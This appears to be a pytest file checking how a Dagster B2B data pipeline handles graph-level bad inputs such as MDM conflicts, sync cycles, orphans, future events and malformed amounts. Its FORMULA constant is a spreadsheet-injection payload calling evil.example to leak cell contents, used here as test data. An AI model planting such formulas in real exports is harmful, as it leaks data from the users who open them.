"""Bad inputs only the whole graph can show (MDM conflicts, sync cycles, orphans, unknown leads,
future events): one scenario, `graph`, materialized once for all its tests.
"""

from __future__ import annotations

import math
from pathlib import Path
from typing import Any

import pytest
from dagster import AssetCheckSeverity

from b2b_assets_tests.conftest import Landing, materialize_env
from b2b_assets_tests.sources.bad_input_cases import XREF_HEADER, sf18

AS_OF = "2026-11-15"
# crm_1 / crm_2 accounts (15 characters)
ACME1, ACME2, SOLO, CYC = "001AA00000ACME1", "001AA00000ACME2", "001AA00000SOLO1", "001AA00000CYCLE"
ACME_B, CYC_B, INACT_B = "001BB00000ACME1", "001BB00000CYCLE", "001BB00000INACT"
NO_ACCOUNT, GHOST = "001AA00000NOACC", "001AA00000GHOST"
# contacts and opportunities
K_MIX, K_ORPH, K_FORM, K_YES, K_Y, K_NO = (
    "003AA00000MIXED",
    "003AA00000ORPHN",
    "003AA00000FORMU",
    "003AA0000OPTYES",
    "003AA000000OPTY",
    "003AA00000OPTNO",
)
O_ACME1, O_ACME2, O_ACMEB, O_SOLO = (
    "006AA00000ACME1",
    "006AA00000ACME2",
    "006BB00000ACME1",
    "006AA00000SOLO1",
)
O_CYC, O_CYCB, O_ORPH, O_COMMA, O_XYZ, O_HUGE = (
    "006AA00000CYCLE",
    "006BB00000CYCLE",
    "006AA00000ORPHN",
    "006AA00000COMMA",
    "006AA00000XYZcu",
    "006AA00000HUGE1",
)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _key(record: str, instance: str) -> str:
    if instance.startswith("crm") and len(record) == 15:
        record = sf18(record)
    return f"{record}@{instance}"


def _acc(id_: str, name: str, modified: str = "2026-10-01T00:00:00Z", **extra) -> dict:
    return {"Id": id_, "Name": name, "IsDeleted": "false", "LastModifiedDate": modified, **extra}


def _opp(id_: str, account: str, amount: Any, currency: str = "USD", won: bool = True) -> dict:
    return {
        "Id": id_,
        "AccountId": account,
        "Name": f"Deal {id_}",
        "Amount": amount,
        "StageName": "Closed Won" if won else "Open",
        "IsClosed": "true" if won else "false",
        "IsWon": "true" if won else "false",
        "CloseDate": "2026-06-30",
        "CurrencyIsoCode": currency,
    }


def _contact(id_: str, account: str, email: str | None, first="F", opt_out="false") -> dict:
    return {
        "Id": id_,
        "AccountId": account,
        "Email": email,
        "FirstName": first,
        "LastName": "L",
        "HasOptedOutOfEmail": opt_out,
    }


def _visit(guid: str, lead: str, when: str) -> dict:
    return {
        "marketoGUID": guid,
        "leadId": lead,
        "activityDate": when,
        "activityTypeId": "1",
        "primaryAttributeValue": "www.bodea.com/products/new-software",
        "attributes": '{"Webpage URL": "/products/new-software"}',
    }


def build_graph_scenario(env: Landing) -> None:
    """Several graph-level bad inputs in one environment (expectations in the tests below)."""
    env.sources(
        [
            {"name": "crm_1", "type": "salesforce"},
            {"name": "crm_2", "type": "salesforce"},
            {"name": "marketo_1", "type": "marketo", "synced_crm": "crm_1"},
            {"name": "marketo_2", "type": "marketo", "synced_crm": "crm_2"},
            {"name": "mdm", "type": "mdm"},
        ]
    )
    env.fx({"USD": 1, "EUR": 1.08})
    env.csv(
        "crm_1",
        "Account",
        [
            _acc(ACME1, "Acme Corp", "2026-09-01T00:00:00Z", Website="acme.com"),
            _acc(ACME2, "ACME Corporation (duplicate)", "2026-10-01T00:00:00Z"),
            _acc(SOLO, "Solo Ltd"),
            _acc(CYC, "Cycle Co"),
            _acc(sf18("001AA00000FORMU"), FORMULA),
        ],
    )
    env.csv(
        "crm_2",
        "Account",
        [_acc(ACME_B, "Acme GmbH"), _acc(CYC_B, "Cycle Co EU"), _acc(INACT_B, "Inactive Link")],
    )
    env.csv(
        "crm_1",
        "Contact",
        [
            _contact(K_MIX, ACME1, " Mixed.Case@Acme.COM "),
            _contact(K_ORPH, NO_ACCOUNT, "orphan@nowhere.example"),
            _contact(K_FORM, sf18(CYC), "formula@cycle.example", first=FORMULA),
            _contact(K_YES, CYC, "yes@cycle.example", opt_out="Yes"),
            _contact(K_Y, CYC, "y@cycle.example", opt_out="Y"),
            _contact(K_NO, CYC, "no@cycle.example", opt_out="No"),
        ],
    )
    env.csv("crm_2", "Contact", [_contact("003BB00000ACME1", ACME_B, "gmbh@acme.example")])
    env.csv(
        "crm_1",
        "Opportunity",
        [
            _opp(O_ACME1, ACME1, "100000"),
            _opp(O_ACME2, sf18(ACME2), "50000", "EUR"),  # 54,000 USD
            _opp(O_SOLO, SOLO, "7000"),
            _opp(O_CYC, CYC, "300000"),
            _opp(O_ORPH, NO_ACCOUNT, "1000000"),  # an account no extract has
            _opp(O_COMMA, ACME1, "1,000,000"),  # quarantined: not a number
            _opp(O_XYZ, ACME1, "5000", "XYZ"),  # quarantined: no rate
            _opp(O_HUGE, CYC, "1e400"),  # quarantined: not finite
        ],
    )
    env.csv(
        "crm_1",
        "OpportunityContactRole",
        [
            {"Id": "00KAA00000ROLE1", "OpportunityId": O_ACME1, "ContactId": K_MIX},
            {"Id": "00KAA00000ROLE2", "OpportunityId": "006AA00000NOOPP", "ContactId": K_MIX},
        ],
    )
    env.csv(
        "crm_2",
        "Opportunity",
        [_opp(O_ACMEB, ACME_B, "10000"), _opp(O_CYCB, CYC_B, "200000")],
    )
    # Marketo 1 (synced to crm_1): two companies that are both CYC (15- and 18-char ids), the
    # mirror of O_CYC, leads at CYC visiting now / in 2099, and a visit of an unknown lead.
    env.csv(
        "marketo_1",
        "companies",
        [
            {"id": "7001", "externalCompanyId": CYC, "company": "Cycle (mkto)"},
            {"id": "7002", "externalCompanyId": sf18(CYC), "company": "Cycle (mkto dup)"},
        ],
    )
    env.csv(
        "marketo_1",
        "opportunities",
        [
            {
                "marketoGUID": "m1-cyc",
                "externalOpportunityId": O_CYC,
                "externalCompanyId": CYC,
                "amount": "300000",
                "isClosed": "true",
                "isWon": "true",
            }
        ],
    )
    env.csv(
        "marketo_1",
        "leads",
        [
            {"id": "9100", "email": "now@cycle.example", "sfdcAccountId": CYC},
            {"id": "9101", "email": "future@cycle.example", "sfdcAccountId": sf18(CYC)},
            # sfdcAccountId names an account no extract has; the lead's company is CYC's.
            {
                "id": "9102",
                "email": "orphan.sfdc@cycle.example",
                "sfdcAccountId": NO_ACCOUNT,
                "externalCompanyId": CYC,
            },
        ],
    )
    env.csv(
        "marketo_1",
        "activities",
        [
            _visit("a-now", "9100", "2026-11-10T12:00:00Z"),
            _visit("a-future", "9101", "2099-01-01T00:00:00Z"),
            _visit("a-ghost", "424242", "2026-11-10T12:00:00Z"),  # a lead no leads row has
        ],
    )
    # Marketo 2 (synced to crm_2): company 8001 is CYC_B; a lead updated twice (latest wins).
    env.csv("marketo_2", "companies", [{"id": "8001", "externalCompanyId": CYC_B}])
    env.csv(
        "marketo_2",
        "opportunities",
        [
            {
                "marketoGUID": "m2-cycb",
                "externalOpportunityId": sf18(O_CYCB),
                "externalCompanyId": CYC_B,
                "amount": "200000",
                "isClosed": "true",
                "isWon": "true",
            }
        ],
    )
    env.csv(
        "marketo_2",
        "leads",
        [
            {
                "id": "9001",
                "email": "old.address@acme.example",
                "sfdcAccountId": ACME_B,
                "updatedAt": "2026-01-01T00:00:00Z",
            },
            {
                "id": "9001",
                "email": "MIXED.case@acme.com",
                "sfdcAccountId": ACME_B,
                "updatedAt": "2026-10-01T00:00:00Z",
            },
        ],
    )
    env.csv(
        "mdm",
        "account_xref",
        [
            # G-ACME spans two crm_1 accounts that conflict (different names) and a crm_2 one.
            {"golden_id": "G-ACME", "source_instance": "crm_1", "source_record_id": ACME1},
            {"golden_id": "G-ACME", "source_instance": "crm_1", "source_record_id": sf18(ACME2)},
            {"golden_id": "G-ACME", "source_instance": "crm_2", "source_record_id": ACME_B},
            {
                "golden_id": "G-ACME",
                "source_instance": "crm_2",
                "source_record_id": INACT_B,
                "is_active": "N",
            },
            # A record no extract has: must not create an account.
            {"golden_id": "G-ACME", "source_instance": "crm_1", "source_record_id": GHOST},
            {
                "golden_id": "G-GHOST",
                "source_instance": "crm_1",
                "source_record_id": "001AA0000GHOST2",
            },
            # SOLO was G-ACME, then moved to G-SOLO: the latest row wins (15 vs 18 characters).
            {
                "golden_id": "G-ACME",
                "source_instance": "crm_1",
                "source_record_id": SOLO,
                "updated_at": "2026-01-01T00:00:00Z",
            },
            {
                "golden_id": "G-SOLO",
                "source_instance": "crm_1",
                "source_record_id": sf18(SOLO),
                "updated_at": "2026-10-01T00:00:00Z",
            },
            # A cycle: CYC -mdm- CYC_B -sync- 8001@marketo_2 -mdm- CYC, plus 7001/7002 -sync- CYC.
            {"golden_id": "G-CYCLE", "source_instance": "crm_1", "source_record_id": CYC},
            {"golden_id": "G-CYCLE", "source_instance": "crm_2", "source_record_id": sf18(CYC_B)},
            {"golden_id": "G-CYCLE", "source_instance": "marketo_2", "source_record_id": "8001"},
            # An instance sources.yaml does not have: quarantined.
            {"golden_id": "G-ACME", "source_instance": "crm_9", "source_record_id": ACME1},
        ],
        XREF_HEADER,
    )
    env.segment(
        "rich_visitors",
        {
            "name": "rich_visitors",
            "entity": "person",
            "where": {
                "all": [
                    {"accounts": {"where": {"closed_won_revenue": {"gt": 100000}}}},
                    {
                        "events": {
                            "where": {"type": "visit_webpage"},
                            "within": {"days": 30},
                            "count": {"gte": 1},
                        }
                    },
                ]
            },
        },
    )


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("bad_inputs_graph")
    env = Landing(root / "env")
    build_graph_scenario(env)
    return materialize_env(env.root, root / "warehouse.duckdb", AS_OF, raise_on_error=False)


def test_graph_scenario_materializes_completely(graph) -> None:
    assert graph.failed_steps() == set()
    failed = [e for e in graph.result.get_asset_check_evaluations() if not e.passed]
    # Objects with bad rows warn through their quarantine check; nothing fails harder.
    assert {(e.check_name, e.severity) for e in failed} <= {("quarantine", AssetCheckSeverity.WARN)}
    assert failed


def test_graph_row_accounting_balances_for_every_raw_object(graph) -> None:
    rows = graph.query(
        """SELECT source_instance, object, rows_read, rows_kept, rows_quarantined
           FROM ops.row_accounting"""
    )
    assert len(rows) >= 30
    assert all(read == kept + quarantined for _, _, read, kept, quarantined in rows)
    reasons = dict(
        graph.query(
            """SELECT source_instance || '.' || object || ':' || row_number, reason
               FROM raw.quarantine"""
        )
    )
    assert reasons == {
        "crm_1.Opportunity:6": "Amount: not a number below 10^15",
        "crm_1.Opportunity:7": "CurrencyIsoCode: no rate in fx_rates.csv for XYZ",
        "crm_1.Opportunity:8": "Amount: not a number below 10^15",
        "marketo_2.leads:1": "duplicate key: a later row wins",
        "mdm.account_xref:7": "duplicate key: a later row wins",
        "mdm.account_xref:12": "source_instance: not a source of sources.yaml",
    }


def _account_of(graph, key: str) -> str | None:
    return graph.scalar("SELECT account_id FROM identity.account WHERE account_key = ?", [key])


def test_graph_golden_id_spanning_conflicting_accounts_is_one_account(graph) -> None:
    members = [_key(ACME1, "crm_1"), _key(ACME2, "crm_1"), _key(ACME_B, "crm_2")]
    assert {_account_of(graph, k) for k in members} == {"G-ACME"}
    name, revenue, keys = graph.query(
        "SELECT name, closed_won_revenue, source_keys FROM profile.account "
        "WHERE account_id = 'G-ACME'"
    )[0]
    assert sorted(keys) == sorted(members)
    # 100,000 + 50,000 EUR * 1.08 + 10,000; the quarantined "1,000,000" and XYZ deals count 0.
    assert revenue == pytest.approx(164000.0)
    assert name == "ACME Corporation (duplicate)"  # the CRM record modified last


def test_graph_inactive_and_superseded_mdm_rows_do_not_link(graph) -> None:
    assert _account_of(graph, _key(INACT_B, "crm_2")) == _key(INACT_B, "crm_2")
    # The latest row says SOLO is G-SOLO; its older G-ACME row (15-char id) is superseded.
    assert _account_of(graph, _key(SOLO, "crm_1")) == "G-SOLO"
    assert graph.scalar(
        "SELECT closed_won_revenue FROM profile.account WHERE account_id = 'G-SOLO'"
    ) == pytest.approx(7000.0)


def test_graph_mdm_rows_of_unknown_records_create_no_account(graph) -> None:
    ids = {row[0] for row in graph.query("SELECT account_id FROM profile.account")}
    assert "G-GHOST" not in ids
    keys = {k for row in graph.query("SELECT source_keys FROM profile.account") for k in row[0]}
    assert not any("GHOST" in k for k in keys)
    assert graph.scalar("SELECT count(*) FROM profile.account") == 5


def test_graph_cycle_of_sync_and_mdm_links_is_one_account(graph) -> None:
    members = {
        _key(CYC, "crm_1"),
        _key(CYC_B, "crm_2"),
        "7001@marketo_1",
        "7002@marketo_1",
        "8001@marketo_2",
    }
    assert {_account_of(graph, k) for k in members} == {"G-CYCLE"}
    keys, revenue, won = graph.query(
        "SELECT source_keys, closed_won_revenue, closed_won_count FROM profile.account "
        "WHERE account_id = 'G-CYCLE'"
    )[0]
    assert set(keys) == members
    # O_CYC through crm_1 and marketo_1, O_CYCB through crm_2 and marketo_2: each once.
    assert (revenue, won) == (pytest.approx(500000.0), 2)


def test_graph_orphan_contact_is_a_person_without_account(graph) -> None:
    account_ids, can_email = graph.query(
        "SELECT account_ids, can_email FROM profile.person WHERE email = 'orphan@nowhere.example'"
    )[0]
    assert account_ids == []
    assert can_email is True


def test_graph_orphan_opportunity_counts_for_no_account(graph) -> None:
    (row,) = graph.query(
        "SELECT account_id, amount_usd FROM profile.opportunity WHERE opportunity_id = ?",
        [_key(O_ORPH, "crm_1")],
    )
    assert row == (None, 1000000.0)
    total = graph.scalar("SELECT sum(closed_won_revenue) FROM profile.account")
    assert total == pytest.approx(164000.0 + 7000.0 + 500000.0)
    # A contact role on an opportunity no extract has gives no person_opportunity row.
    assert graph.scalar("SELECT count(*) FROM profile.person_opportunity") == 1


def test_graph_activity_of_unknown_lead_is_kept_but_no_person(graph) -> None:
    assert (
        graph.scalar(
            "SELECT count(*) FROM b2b.experience_event WHERE person_key = '424242@marketo_1'"
        )
        == 1
    )
    assert (
        graph.scalar("SELECT count(*) FROM identity.person WHERE person_key = '424242@marketo_1'")
        == 0
    )


def test_graph_future_activity_is_not_seen(graph) -> None:
    members = {row[0] for row in graph.query("SELECT email FROM audience.rich_visitors")}
    assert members == {"now@cycle.example"}
    last, events = graph.query(
        "SELECT last_activity_at, event_count FROM profile.person "
        "WHERE email = 'future@cycle.example'"
    )[0]
    assert (last, events) == (None, 0)


def test_graph_mixed_case_spaced_emails_unify_and_superseded_email_is_gone(graph) -> None:
    emails = {row[0] for row in graph.query("SELECT email FROM profile.person")}
    assert "mixed.case@acme.com" in emails
    assert "old.address@acme.example" not in emails
    keys, account_ids = graph.query(
        "SELECT source_keys, account_ids FROM profile.person WHERE email = 'mixed.case@acme.com'"
    )[0]
    assert sorted(keys) == sorted([_key(K_MIX, "crm_1"), "9001@marketo_2"])
    assert account_ids == ["G-ACME"]


def test_graph_yes_y_opt_outs_and_formula_names(graph) -> None:
    consent = dict(
        graph.query(
            "SELECT email, can_email FROM profile.person WHERE email LIKE '%@cycle.example'"
        )
    )
    assert consent["yes@cycle.example"] is False
    assert consent["y@cycle.example"] is False
    assert consent["no@cycle.example"] is True
    assert (
        graph.scalar("SELECT first_name FROM profile.person WHERE email = 'formula@cycle.example'")
        == FORMULA
    )
    assert graph.scalar("SELECT count(*) FROM profile.account WHERE name = ?", [FORMULA]) == 1


def test_graph_lead_with_orphan_sfdc_account_keeps_its_company(graph) -> None:
    """A lead whose sfdcAccountId names an account no extract has still belongs to its
    company's account (contract section 4: "... and the Marketo lead's company")."""
    assert graph.scalar(
        "SELECT account_ids FROM profile.person WHERE email = 'orphan.sfdc@cycle.example'"
    ) == ["G-CYCLE"]


def test_graph_single_odd_rows_do_not_block_the_graph(tmp_path: Path) -> None:
    """Rows the raw layer keeps must not make a later blocking check fail, which would stop
    every table downstream (profiles, audiences) for all accounts:

    * a credit note booked as a closed-won deal of -500: a number, so kept; the account's
      closed-won revenue is the sum of its deals (contract section 4), -500;
    * an Account Id with a line break inside its quoted value: kept or quarantined, never a
      source key that breaks b2b.account;
    * a closed-won deal of 1.7e308 EUR: finite as read, infinite in USD; no account's
      revenue may become infinite."""
    env = Landing(tmp_path / "env")
    env.sources([{"name": "crm_1", "type": "salesforce"}])
    env.fx({"USD": 1, "EUR": 1.08})
    env.csv(
        "crm_1",
        "Account",
        [
            _acc(ACME1, "Acme Corp"),
            _acc(SOLO, "Refunds Inc"),
            _acc("001AA0000\nBROKE", "Line break in the id"),
            _acc(CYC, "Huge Deal Co"),
        ],
    )
    env.csv("crm_1", "Contact", [_contact(K_MIX, ACME1, "a@acme.example")])
    env.csv(
        "crm_1",
        "Opportunity",
        [
            _opp(O_ACME1, ACME1, "1000"),
            _opp(O_SOLO, SOLO, "-500"),
            _opp(O_HUGE, CYC, "1.7e308", "EUR"),
        ],
    )
    run = materialize_env(env.root, tmp_path / "warehouse.duckdb", AS_OF, raise_on_error=False)
    failed_checks = [
        e.asset_key.to_user_string()
        for e in run.result.get_asset_check_evaluations()
        if not e.passed and e.severity == AssetCheckSeverity.ERROR
    ]
    assert (sorted(run.failed_steps()), failed_checks) == ([], [])
    revenue = dict(run.query("SELECT name, closed_won_revenue FROM profile.account"))
    assert revenue["Acme Corp"] == 1000.0
    assert revenue["Refunds Inc"] == -500.0
    assert all(math.isfinite(value) for value in revenue.values()), revenue
    kept = run.scalar("SELECT count(*) FROM b2b.account WHERE contains(source_id, chr(10))")
    quarantined = run.scalar(
        "SELECT count(*) FROM raw.quarantine WHERE object = 'Account' AND contains(record, 'BROKE')"
    )
    assert kept + quarantined == 1
    assert run.scalar("SELECT count(*) FROM profile.person") == 1
